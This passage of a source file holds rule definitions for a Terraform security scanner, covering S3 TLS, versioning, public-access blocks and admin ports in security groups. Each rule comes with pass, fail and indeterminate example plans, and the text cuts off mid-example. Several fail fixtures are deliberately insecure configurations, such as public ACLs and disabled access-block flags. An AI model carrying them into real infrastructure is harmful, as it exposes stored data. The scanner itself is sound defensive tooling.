        """ expect "'aws_s3_bucket_acl.b' grants READ to 'AllUsers'"
        example indeterminate "ACL from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_acl.b", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"access_control_policy": []}, "after_unknown": {"acl": true, "bucket": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket_acl.b", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "b", "provider_config_key": "aws",
             "expressions": {"acl": {"references": ["random_shuffle.acl.result"]}}}]}}}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/s3_bucket_tls_not_enforced.plumb",
      text: #"""
      rule s3_bucket_tls_not_enforced {
        title "S3 bucket policies deny requests that do not use TLS"
        severity medium
        category security
        tags [terraform, aws, s3, tls]
        rationale """
          S3 accepts plain HTTP requests unless the bucket policy refuses them. A client configured
          with an `http://` endpoint, or downgraded by an attacker on the network path, then sends
          credentials-signed requests and object data in clear text. A Deny statement on
          `aws:SecureTransport = false` makes S3 reject every such request.
        """
        remediation """
          Add to the bucket policy a statement `{"Sid": "DenyInsecureTransport", "Effect": "Deny",
          "Principal": "*", "Action": "s3:*", "Resource": [bucket ARN, bucket ARN + "/*"],
          "Condition": {"Bool": {"aws:SecureTransport": "false"}}}` (with `aws_s3_bucket_policy`, or the
          bucket's `policy` on older providers).
        """
        # A Deny statement and a SecureTransport=false condition somewhere in the policy text (the policy
        # is a JSON string: this is a lenient textual test, so that a real TLS-only policy always passes).
        param deny_insecure: pattern = """(?s)^(?>.*?"Effect"\s*+:\s*+"Deny").*(?i:"aws:SecureTransport")\s*:\s*(?:"false"|false|\[\s*"false"\s*\])|^(?>.*?(?i:"aws:SecureTransport")\s*+:\s*+(?:"false"|false|\[\s*+"false"\s*+\])).*"Effect"\s*:\s*"Deny(?=")"""

        for b in terraform.resource("aws_s3_bucket")
        when not is_null(b.after)
        let ref = "aws_s3_bucket." + b.name
        let bucket_name = first(filter(x in [b.after.bucket], known(x)))
        # Bucket policies that name the bucket literally, and those whose `bucket` expression references
        # it (edges of the plan's configuration: same plan, same module instance). A policy whose
        # document only mentions the bucket's ARN is another bucket's policy.
        let policies = flatten([
          terraform.resource("aws_s3_bucket_policy")[after.bucket == bucket_name],
          filter(x in b -> referencedBy, type(x) == "aws_s3_bucket_policy" and ref in x.config.bucket.references)])
        # Policies whose bucket is known only after apply and whose `bucket` expression references no
        # aws_s3_bucket (a variable, a local, a module output): any may be this bucket's. The lookup does
        # not depend on the bucket, so it is computed once per run.
        let unattributed = terraform.resource("aws_s3_bucket_policy")[change.after_unknown.bucket == true and none(x in [config.bucket.references[0], config.bucket.references[1], config.bucket.references[2]], starts_with(x, "aws_s3_bucket."))]
        # One of them stands for all when one is in this bucket's plan (`any` stops at the first): their
        # buckets are all unknown, so each makes the requirement unknown, with the same evidence.
        let opaque = filter(p in [first(unattributed)], any(q in unattributed, file(q) == file(b)))
        let inline_unset = exists(b.provider.key) and not exists(b.config.policy) and is_unknown(b.after.policy)
        let inline_tls = not inline_unset and b.after.policy matches param.deny_insecure
        require inline_tls or any(p in policies, p.after.policy matches param.deny_insecure) or any(p in opaque, p.after.bucket == b.after.bucket)
          else "'${b.address}' has no bucket policy denying requests without TLS (aws:SecureTransport = false)" at b.address

        example pass """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"id": true, "policy": true}}},
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": "{\"Statement\":[{\"Action\":\"s3:*\",\"Condition\":{\"Bool\":{\"aws:SecureTransport\":\"false\"}},\"Effect\":\"Deny\",\"Principal\":\"*\",\"Resource\":[\"arn:aws:s3:::acme-b\",\"arn:aws:s3:::acme-b/*\"]}],\"Version\":\"2012-10-17\"}"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-b"}}},
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.b.id", "aws_s3_bucket.b"]}}}]}}}
        """
        example fail "policy without the TLS statement, and no policy at all" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": ↓"aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"id": true, "policy": true}}},
            {"address": ↓"aws_s3_bucket.c", "mode": "managed", "type": "aws_s3_bucket", "name": "c",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-c", "policy": null}, "after_unknown": {"id": true}}},
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": "{\"Statement\":[{\"Action\":\"s3:GetObject\",\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::111122223333:root\"},\"Resource\":\"arn:aws:s3:::acme-b/*\"}],\"Version\":\"2012-10-17\"}"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-b"}}},
            {"address": "aws_s3_bucket.c", "mode": "managed", "type": "aws_s3_bucket", "name": "c", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-c"}}},
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.b.id", "aws_s3_bucket.b"]}}}]}}}
        """ expect "'aws_s3_bucket.b' has no bucket policy denying requests without TLS" expect "'aws_s3_bucket.c' has no bucket policy"
        example indeterminate "policy rendered at apply" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"id": true, "policy": true}}},
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {"bucket": true, "policy": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-b"}}},
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.b.id", "aws_s3_bucket.b"]}, "policy": {"references": ["data.aws_iam_policy_document.b.json"]}}}]}}}
        """
        example indeterminate "a policy whose bucket comes from a variable" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "policy": true}}},
            {"address": "aws_s3_bucket_policy.any", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "any",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"policy": "{\"Statement\":[{\"Action\":\"s3:*\",\"Condition\":{\"Bool\":{\"aws:SecureTransport\":\"false\"}},\"Effect\":\"Deny\",\"Principal\":\"*\",\"Resource\":\"*\"}],\"Version\":\"2012-10-17\"}"}, "after_unknown": {"bucket": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}}},
            {"address": "aws_s3_bucket_policy.any", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "any", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["var.bucket_id"]}}}]}}}
        """
        example fail "a policy whose document names this bucket but whose bucket is another" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"arn": true, "id": true, "policy": true}}},
            {"address": ↓"aws_s3_bucket.c", "mode": "managed", "type": "aws_s3_bucket", "name": "c",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-c"}, "after_unknown": {"arn": true, "id": true, "policy": true}}},
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": "{\"Statement\":[{\"Action\":\"s3:*\",\"Condition\":{\"Bool\":{\"aws:SecureTransport\":\"false\"}},\"Effect\":\"Deny\",\"Principal\":\"*\",\"Resource\":[\"arn:aws:s3:::acme-b\",\"arn:aws:s3:::acme-b/*\",\"arn:aws:s3:::acme-c\"]}],\"Version\":\"2012-10-17\"}"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-b"}}},
            {"address": "aws_s3_bucket.c", "mode": "managed", "type": "aws_s3_bucket", "name": "c", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-c"}}},
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.b.id", "aws_s3_bucket.b"]},
                             "policy": {"references": ["aws_s3_bucket.b.arn", "aws_s3_bucket.b", "aws_s3_bucket.c.arn", "aws_s3_bucket.c"]}}}]}}}
        """ expect "'aws_s3_bucket.c' has no bucket policy denying requests without TLS"
        example fail "module instances: each bucket has only its own policy" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "module.s3[\"a\"].aws_s3_bucket.this[0]", "module_address": "module.s3[\"a\"]", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-a"}, "after_unknown": {"id": true, "policy": true}}},
            {"address": "module.s3[\"a\"].aws_s3_bucket_policy.this[0]", "module_address": "module.s3[\"a\"]", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"policy": "{\"Statement\":[{\"Action\":\"s3:*\",\"Condition\":{\"Bool\":{\"aws:SecureTransport\":\"false\"}},\"Effect\":\"Deny\",\"Principal\":\"*\",\"Resource\":[\"arn:aws:s3:::acme-a\",\"arn:aws:s3:::acme-a/*\"]}],\"Version\":\"2012-10-17\"}"}, "after_unknown": {"bucket": true}}},
            {"address": ↓"module.s3[\"b\"].aws_s3_bucket.this[0]", "module_address": "module.s3[\"b\"]", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"id": true, "policy": true}}}],
           "configuration": {"root_module": {"module_calls": {"s3": {"source": "./modules/s3", "for_each_expression": {"references": ["var.buckets"]},
             "module": {"resources": [
              {"address": "aws_s3_bucket.this", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "provider_config_key": "aws",
               "expressions": {"bucket": {"references": ["var.name"]}}, "count_expression": {"constant_value": 1}},
              {"address": "aws_s3_bucket_policy.this", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "this", "provider_config_key": "aws",
               "expressions": {"bucket": {"references": ["aws_s3_bucket.this[0].id", "aws_s3_bucket.this[0]", "aws_s3_bucket.this"]}, "policy": {"references": ["data.aws_iam_policy_document.tls.json", "data.aws_iam_policy_document.tls"]}},
               "count_expression": {"references": ["var.enabled"]}}]}}}}}}
        """ expect "'module.s3[\"b\"].aws_s3_bucket.this[0]' has no bucket policy denying requests without TLS"
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/s3_bucket_versioning_disabled.plumb",
      text: #"""
      rule s3_bucket_versioning_disabled {
        title "S3 buckets have versioning enabled"
        severity medium
        category security
        tags [terraform, aws, s3, backup]
        rationale """
          Without versioning, an overwrite or a delete is final: a buggy job, a compromised key or
          ransomware that rewrites every object leaves nothing to restore. Versioning keeps the previous
          versions (expire them with a lifecycle rule to bound the cost) and is required for replication
          and Object Lock.
        """
        remediation """
          Add `resource "aws_s3_bucket_versioning"` with `bucket = aws_s3_bucket.<name>.id` and
          `versioning_configuration { status = "Enabled" }` (provider v4+), or
          `versioning { enabled = true }` on the bucket with older providers.
        """

        for b in terraform.resource("aws_s3_bucket")
        when not is_null(b.after)
        let ref = "aws_s3_bucket." + b.name
        # The bucket's name when known; missing otherwise, so that a lookup by name finds nothing.
        let bucket_name = first(filter(x in [b.after.bucket], known(x)))
        # Versioning resources that name the bucket literally, and those whose `bucket` expression
        # references it (edges of the plan's configuration: same plan, same module instance).
        let versionings = flatten([
          terraform.resource("aws_s3_bucket_versioning")[after.bucket == bucket_name],
          filter(x in b -> referencedBy, type(x) == "aws_s3_bucket_versioning" and ref in x.config.bucket.references)])
        # Versioning resources whose bucket is known only after apply and whose `bucket` expression
        # references no aws_s3_bucket (a variable, a local, a module output): any may be this bucket's.
        # The lookup does not depend on the bucket, so it is computed once per run; each bucket then
        # only looks at those, not at every versioning resource.
        let unattributed = terraform.resource("aws_s3_bucket_versioning")[change.after_unknown.bucket == true and none(x in [config.bucket.references[0], config.bucket.references[1], config.bucket.references[2]], starts_with(x, "aws_s3_bucket."))]
        # One of them stands for all when one is in this bucket's plan (`any` stops at the first): their
        # buckets are all unknown, so each makes the requirement unknown, with the same evidence.
        let opaque = filter(p in [first(unattributed)], any(q in unattributed, file(q) == file(b)))
        # The legacy inline block is computed (unknown) when the configuration does not write it.
        let inline_unset = exists(b.provider.key) and not exists(b.config.versioning) and is_unknown(b.after.versioning)
        let inline_on = not inline_unset and any(v in b.after.versioning, v.enabled == true)
        let versioning = first(versionings)
        let status = versioning.after.versioning_configuration[0].status
        require count(versionings) == 0 or inline_on or all(v in versionings, v.after.versioning_configuration[0].status == "Enabled")
          else "'${b.address}' has versioning status '${status}' (${first(versionings).address})" at status
          fix { set versioning.after.versioning_configuration[0].status = "Enabled" }
        require count(versionings) > 0 or inline_on or any(p in opaque, p.after.bucket == b.after.bucket)
          else "'${b.address}' does not enable versioning" at b.address

        example pass "versioning resource" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "versioning": true}}},
            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"versioning_configuration": [{"mfa_delete": null, "status": "Enabled"}]}, "after_unknown": {"bucket": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}}},
            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.data.id", "aws_s3_bucket.data"]}}}]}}}
        """
        example pass "legacy inline block" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"bucket": "acme-data", "versioning": [{"enabled": true, "mfa_delete": false}]}, "after_unknown": {"id": true}}}]}
        """
        example fail "suspended" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "versioning": true}}},
            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"versioning_configuration": [{"mfa_delete": null, "status": ↓"Suspended"}]}, "after_unknown": {"bucket": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}}},
            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.data.id", "aws_s3_bucket.data"]}}}]}}}
        """ expect "'aws_s3_bucket.data' has versioning status 'Suspended' (aws_s3_bucket_versioning.data)"
        example fail "no versioning at all" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": ↓"aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "versioning": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}}}]}}}
        """ expect "'aws_s3_bucket.data' does not enable versioning"
        example indeterminate "status known only after apply" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "versioning": true}}},
            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"versioning_configuration": [{"mfa_delete": null}]}, "after_unknown": {"bucket": true, "versioning_configuration": [{"status": true}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}}},
            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.data.id", "aws_s3_bucket.data"]}}}]}}}
        """
        example indeterminate "a versioning resource whose bucket comes from a variable" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "versioning": true}}},
            {"address": "aws_s3_bucket_versioning.any", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "any",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"versioning_configuration": [{"mfa_delete": null, "status": "Enabled"}]}, "after_unknown": {"bucket": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}}},
            {"address": "aws_s3_bucket_versioning.any", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "any", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["var.bucket_id"]}}}]}}}
        """
        example fail "module instances: each bucket has only its own versioning resource" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "module.s3[\"a\"].aws_s3_bucket.this[0]", "module_address": "module.s3[\"a\"]", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-a"}, "after_unknown": {"id": true, "versioning": true}}},
            {"address": "module.s3[\"a\"].aws_s3_bucket_versioning.this[0]", "module_address": "module.s3[\"a\"]", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"versioning_configuration": [{"mfa_delete": null, "status": "Enabled"}]}, "after_unknown": {"bucket": true}}},
            {"address": ↓"module.s3[\"b\"].aws_s3_bucket.this[0]", "module_address": "module.s3[\"b\"]", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"id": true, "versioning": true}}}],
           "configuration": {"root_module": {"module_calls": {"s3": {"source": "./modules/s3", "for_each_expression": {"references": ["var.buckets"]},
             "module": {"resources": [
              {"address": "aws_s3_bucket.this", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "provider_config_key": "aws",
               "expressions": {"bucket": {"references": ["var.name"]}}, "count_expression": {"constant_value": 1}},
              {"address": "aws_s3_bucket_versioning.this", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "this", "provider_config_key": "aws",
               "expressions": {"bucket": {"references": ["aws_s3_bucket.this[0].id", "aws_s3_bucket.this[0]", "aws_s3_bucket.this"]}, "versioning_configuration": [{"status": {"constant_value": "Enabled"}}]},
               "count_expression": {"references": ["var.enabled"]}}]}}}}}}
        """ expect "'module.s3[\"b\"].aws_s3_bucket.this[0]' does not enable versioning"
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/s3_public_access_block_disabled.plumb",
      text: #"""
      rule s3_public_access_block_disabled {
        title "S3 public access blocks turn on all four protections"
        severity high
        category security
        tags [terraform, aws, s3, public-access]
        rationale """
          A public access block only protects what its flags cover: `block_public_acls` and
          `ignore_public_acls` stop public ACLs from being set or honoured, `block_public_policy` and
          `restrict_public_buckets` stop a bucket policy from granting access to everyone. One flag left
          false (the provider's default) is the gap through which a later `public-read` ACL or
          `"Principal": "*"` policy publishes the data. The account-level block
          (`aws_s3_account_public_access_block`) applies the same flags to every bucket of the account.
        """
        remediation """
          Set `block_public_acls`, `block_public_policy`, `ignore_public_acls` and
          `restrict_public_buckets` to true. A bucket that must serve public content should do it
          through CloudFront with an origin access control, not by relaxing the block.
        """
        param flags: list<string> = ["block_public_acls", "block_public_policy", "ignore_public_acls", "restrict_public_buckets"]

        for r in terraform.resource("aws_s3_bucket_public_access_block", "aws_s3_account_public_access_block")
        when not is_null(r.after)
        let off = filter(f in param.flags, r.after[f] != true)
        require count(off) == 0
          else "'${r.address}' leaves ${join(off, ", ")} off" at r.after[first(off)]
          fix {
            set r.after.block_public_acls = true
            set r.after.block_public_policy = true
            set r.after.ignore_public_acls = true
            set r.after.restrict_public_buckets = true
          }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_public_access_block.b", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"block_public_acls": true, "block_public_policy": true, "ignore_public_acls": true, "restrict_public_buckets": true},
               "after_unknown": {"bucket": true, "id": true}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_public_access_block.b", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"block_public_acls": true, "block_public_policy": ↓false, "ignore_public_acls": true, "restrict_public_buckets": false},
               "after_unknown": {"bucket": true, "id": true}}},
            {"address": "aws_s3_account_public_access_block.this", "mode": "managed", "type": "aws_s3_account_public_access_block", "name": "this",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"account_id": null, "block_public_acls": ↓false, "block_public_policy": true, "ignore_public_acls": true, "restrict_public_buckets": true},
               "after_unknown": {"id": true}}}]}
        """ expect "'aws_s3_bucket_public_access_block.b' leaves block_public_policy, restrict_public_buckets off"
            expect "'aws_s3_account_public_access_block.this' leaves block_public_acls off"
        example indeterminate "flags from values known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_public_access_block.b", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"block_public_acls": true, "ignore_public_acls": true, "restrict_public_buckets": true},
               "after_unknown": {"block_public_policy": true, "bucket": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/security_group_admin_ports_open.plumb",
      text: #"""
      rule security_group_admin_ports_open {
        title "Security groups do not open admin ports to the internet"
        severity critical
        category security
        tags [terraform, aws, network]
        rationale """
          SSH (22) and RDP (3389) open to 0.0.0.0/0 or ::/0 are scanned within minutes of creation and
          brute-forced from then on. A rule for all protocols (`-1`) opens them too.
        """
        remediation "Restrict the rule's CIDR blocks to your VPN or bastion ranges, or use SSM Session Manager instead of SSH."
        param admin_ports: list<int> = [22, 3389]
        param non_port_protocols: list<string> = ["icmp", "1", "icmpv6", "58"]

        for sg in terraform.resource("aws_security_group", "aws_default_security_group", "aws_security_group_rule", "aws_vpc_security_group_ingress_rule")
        when not is_null(sg.after)
        # Inline rules are computed (unknown) when the configuration writes none: the group then has only
        # the rules of separate aws_security_group_rule / aws_vpc_security_group_ingress_rule resources.
        let inline_unset = exists(sg.provider.key) and not exists(sg.config.ingress) and is_unknown(sg.after.ingress)
        let rules = flatten([
          flatten(filter(x in [sg.after.ingress], not inline_unset and exists(x))),
          filter(x in [sg.after], type(sg) == "aws_security_group_rule" and x.type == "ingress"),
          filter(x in [sg.after], type(sg) == "aws_vpc_security_group_ingress_rule")])
        let open = filter(r in rules,
          ("0.0.0.0/0" in r.cidr_blocks or "::/0" in r.ipv6_cidr_blocks or r.cidr_ipv4 == "0.0.0.0/0" or r.cidr_ipv6 == "::/0")
          and any(p in param.admin_ports, r.protocol == "-1" or r.protocol == "all" or r.ip_protocol == "-1"
            or (default(r.protocol, r.ip_protocol) not in param.non_port_protocols and r.from_port <= p and p <= r.to_port)))
        require count(open) == 0
          else "'${sg.address}' opens port ${join(map(p in filter(p in param.admin_ports, any(r in open, r.protocol == "-1" or r.protocol == "all" or r.ip_protocol == "-1" or (r.from_port <= p and p <= r.to_port))), to_string(p)), ", ")} to the internet" at first(open)

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_security_group.web", "mode": "managed", "type": "aws_security_group", "name": "web",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"ingress": [
                 {"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 443, "to_port": 443, "protocol": "tcp"},
                 {"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 8, "to_port": 0, "protocol": "icmp"},
                 {"cidr_blocks": ["10.0.0.0/8"], "ipv6_cidr_blocks": [], "from_port": 22, "to_port": 22, "protocol": "tcp"}]}}},
            {"address": "aws_security_group_rule.vpn", "mode": "managed", "type": "aws_security_group_rule", "name": "vpn",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"security_group_id": true},
               "after": {"type": "ingress", "cidr_blocks": ["203.0.113.0/24"], "ipv6_cidr_blocks": null, "from_port": 22, "to_port": 22, "protocol": "tcp"}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_security_group.bastion", "mode": "managed", "type": "aws_security_group", "name": "bastion",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
